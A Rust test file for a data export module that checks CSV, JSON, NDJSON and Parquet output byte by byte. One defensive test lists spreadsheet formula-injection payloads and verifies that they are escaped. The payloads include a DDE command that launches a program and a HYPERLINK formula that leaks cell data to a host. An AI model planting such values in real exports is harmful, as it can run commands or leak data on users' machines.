//! Files, byte by byte, from expectations worked out by hand.

use jiff::tz::TimeZone;
use parquet::file::reader::{FileReader as _, SerializedFileReader};
use parquet::record::{Field, Row as Record};
use serde_json::{Value, json};

use super::{Export, ExportFormat};
use crate::row::{Column, Kind};

const COLUMNS: [Column; 7] = [
    Column::new("name", Kind::Text),
    Column::new("held since", Kind::Instant),
    Column::new("ways", Kind::Texts),
    Column::new("times", Kind::Integer),
    Column::new("open", Kind::Flag),
    Column::for_programs("detail", Kind::Json),
    Column::new("note", Kind::Text),
];

/// 2026-03-29T00:59:59.5Z by `date -u -d`, and one second later: between them clocks in Berlin go forward.
const BEFORE_MS: i64 = 1_774_745_999_500;
const AFTER_MS: i64 = 1_774_746_000_500;

/// More than a 64-bit float holds: 2^53 + 1.
const LARGE: i64 = 9_007_199_254_740_993;

fn rows() -> Vec<Vec<Value>> {
    let ways = json!(["assigned", "requested"]);
    let (name, detail) = (json!("Müller, \"Ann\""), json!({"a": [1, null]}));
    vec![
        vec![name, json!(BEFORE_MS), ways, json!(-5), json!(true), detail, json!("two\r\nlines")],
        vec![json!("=1+2"), json!(AFTER_MS), json!([]), json!(LARGE), json!(false), json!("-x"), json!("")],
        vec![Value::Null; 7],
    ]
}

/// The bytes of an export of these rows, a row a page.
fn export(format: ExportFormat, columns: &[Column], rows: Vec<Vec<Value>>) -> Vec<u8> {
    let berlin = TimeZone::get("Europe/Berlin").unwrap();
    let mut export = Export::begin(format, columns.to_vec(), berlin, Vec::new()).unwrap();
    let expected = rows.len() as u64;
    for row in rows {
        export.write(vec![row]).unwrap();
    }
    let (bytes, written) = export.end().unwrap();
    assert_eq!(written, expected);
    bytes
}

fn text(format: ExportFormat, rows: Vec<Vec<Value>>) -> String {
    String::from_utf8(export(format, &COLUMNS, rows)).unwrap()
}

#[test]
fn csv_is_as_rfc_4180_has_it_with_each_instant_twice() {
    let expected = "name,held since utc,held since local,ways,times,open,detail,note\r\n\
        \"Müller, \"\"Ann\"\"\",2026-03-29T00:59:59.5Z,2026-03-29T01:59:59.5+01:00,\"assigned, requested\",-5,true,\
        \"{\"\"a\"\":[1,null]}\",\"two\r\nlines\"\r\n\
        '=1+2,2026-03-29T01:00:00.5Z,2026-03-29T03:00:00.5+02:00,,9007199254740993,false,'-x,\r\n\
        ,,,,,,,\r\n";
    assert_eq!(text(ExportFormat::Csv, rows()), expected);
    assert_eq!(text(ExportFormat::Csv, Vec::new()), expected.split_inclusive("\r\n").next().unwrap());
}

/// Nothing in a text becomes a formula, whatever a spreadsheet does with quotes; numbers are numbers. What stands in the
/// file, without one apostrophe at its beginning, is the text as it was.
#[test]
fn no_text_becomes_a_formula() {
    let texts = [
        "=HYPERLINK(\"http://example.com/?\"&A1)",
        "+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "'=1",
        "'tis",
    ];
    for harmful in texts {
        let one = [Column::new("x", Kind::Text)];
        let bytes = export(ExportFormat::Csv, &one, vec![vec![json!(harmful)]]);
        let mut reader = csv::Reader::from_reader(&bytes[..]);
        let cell = reader.records().next().unwrap().unwrap()[0].to_owned();
        assert_eq!(cell.strip_prefix('\''), Some(harmful), "{harmful:?}");
        let several = [Column::new("x", Kind::Texts)];
        let bytes = export(ExportFormat::Csv, &several, vec![vec![json!([harmful, "b"])]]);
        let mut reader = csv::Reader::from_reader(&bytes[..]);
        let cell = reader.records().next().unwrap().unwrap()[0].to_owned();
        assert_eq!(cell.strip_prefix('\''), Some(&*format!("{harmful}, b")), "{harmful:?}");
    }
    for harmless in ["a=1", " =1", "1-2", "x@y", "O'Neil"] {
        let one = [Column::new("x", Kind::Text)];
        let bytes = export(ExportFormat::Csv, &one, vec![vec![json!(harmless)]]);
        assert_eq!(String::from_utf8(bytes).unwrap(), format!("x\r\n{harmless}\r\n"));
    }
}

#[test]
fn json_is_one_array_and_ndjson_an_object_a_line() {
    let first = r#"{"detail":{"a":[1,null]},"heldSince":"2026-03-29T00:59:59.5Z","name":"Müller, \"Ann\"","note":"two\r\nlines","open":true,"times":-5,"ways":["assigned","requested"]}"#;
    let second = r#"{"detail":"-x","heldSince":"2026-03-29T01:00:00.5Z","name":"=1+2","note":"","open":false,"times":9007199254740993,"ways":[]}"#;
    let third =
        r#"{"detail":null,"heldSince":null,"name":null,"note":null,"open":null,"times":null,"ways":null}"#;
    let lines = format!("{first}\n{second}\n{third}\n");
    assert_eq!(text(ExportFormat::Ndjson, rows()), lines);
    assert_eq!(text(ExportFormat::Json, rows()), format!("[\n{first},\n{second},\n{third}\n]\n"));
    assert_eq!(text(ExportFormat::Ndjson, Vec::new()), "");
    let none: Value = serde_json::from_str(&text(ExportFormat::Json, Vec::new())).unwrap();
    assert_eq!(none, json!([]));
}

/// What a Parquet file says of itself, and every value in it.
fn read(bytes: Vec<u8>) -> (Vec<String>, Vec<Vec<(String, Field)>>) {
    let reader = SerializedFileReader::new(bytes::Bytes::from(bytes)).unwrap();
    let mut schema = Vec::new();
    parquet::schema::printer::print_schema(&mut schema, reader.metadata().file_metadata().schema());
    let schema = String::from_utf8(schema).unwrap();
    let columns =
        |row: Record| row.get_column_iter().map(|(name, field)| (name.clone(), field.clone())).collect();
    let rows = reader.get_row_iter(None).unwrap().map(|row| columns(row.unwrap())).collect();
    (schema.lines().map(|line| line.trim().to_owned()).collect(), rows)
}

#[test]
fn parquet_keeps_types_and_what_is_absent() {
    let (schema, found) = read(export(ExportFormat::Parquet, &COLUMNS, rows()));
    assert_eq!(
        schema,
        [
            "message answer {",
            "OPTIONAL BYTE_ARRAY name (STRING);",
            "OPTIONAL INT64 heldSince (TIMESTAMP(MILLIS,true));",
            "OPTIONAL group ways (LIST) {",
            "REPEATED group list {",
            "REQUIRED BYTE_ARRAY element (STRING);",
            "}",
            "}",
            "OPTIONAL INT64 times;",
            "OPTIONAL BOOLEAN open;",
            "OPTIONAL BYTE_ARRAY detail (JSON);",
            "OPTIONAL BYTE_ARRAY note (STRING);",
            "}",
        ]
    );
    let text = |text: &str| Field::Str(text.to_owned());
    let list = |field: &Field| match field {
        Field::ListInternal(list) => list.elements().to_vec(),
        other => panic!("{other:?} is no list"),
    };
    let of = |row: usize, column: usize| &found[row][column].1;
    assert_eq!((found.len(), found[0].len()), (3, 7));
    assert_eq!(of(0, 0), &text("Müller, \"Ann\""));
    assert_eq!(of(0, 1), &Field::TimestampMillis(BEFORE_MS));
    assert_eq!(list(of(0, 2)), [text("assigned"), text("requested")]);
    assert_eq!((of(0, 3), of(0, 4)), (&Field::Long(-5), &Field::Bool(true)));
    assert_eq!((of(0, 5), of(0, 6)), (&text("{\"a\":[1,null]}"), &text("two\r\nlines")));
    // No apostrophe here: nothing opens this as a spreadsheet of formulas.
    assert_eq!((of(1, 0), of(1, 6)), (&text("=1+2"), &text("")));
    assert_eq!((list(of(1, 2)), of(1, 3)), (Vec::new(), &Field::Long(LARGE)));
    assert_eq!(of(1, 5), &text("\"-x\""));
    for column in 0..7 {
        assert_eq!(of(2, column), &Field::Null, "{column}");
    }
    let (_, none) = read(export(ExportFormat::Parquet, &COLUMNS, Vec::new()));
    assert!(none.is_empty());
}

/// 25,000 rows are three row groups, and each row is where it was.
#[test]
fn a_long_parquet_file_has_several_row_groups() {
    let columns = [Column::new("n", Kind::Integer), Column::new("several", Kind::Texts)];
    let rows: Vec<Vec<Value>> = (0..25_000)
        .map(|n: i64| vec![json!(n), json!(vec![n.to_string(); usize::try_from(n % 3).unwrap()])])
        .collect();
    let bytes = export(ExportFormat::Parquet, &columns, rows);
    let reader = SerializedFileReader::new(bytes::Bytes::from(bytes.clone())).unwrap();
    let groups: Vec<i64> = reader.metadata().row_groups().iter().map(|group| group.num_rows()).collect();
    assert_eq!(groups, [10_000, 10_000, 5_000]);
    let (_, found) = read(bytes);
    for (n, row) in (0_i64..).zip(found) {
        let Field::ListInternal(several) = &row[1].1 else { panic!("{row:?}") };
        assert_eq!((&row[0].1, several.len() as i64), (&Field::Long(n), n % 3));
    }
}

#[test]
fn the_form_of_a_file_is_told_by_its_name() {
    let of = |name: &str| ExportFormat::of_file(std::path::Path::new(name));
    assert_eq!(of("a/b.csv"), Some(ExportFormat::Csv));
    assert_eq!(of("b.tar.PARQUET"), Some(ExportFormat::Parquet));
    assert_eq!((of("b.txt"), of("csv"), of(".csv")), (None, None, None));
    for format in ExportFormat::ALL {
        assert_eq!(ExportFormat::of_name(format.as_str()), Some(format));
    }
}
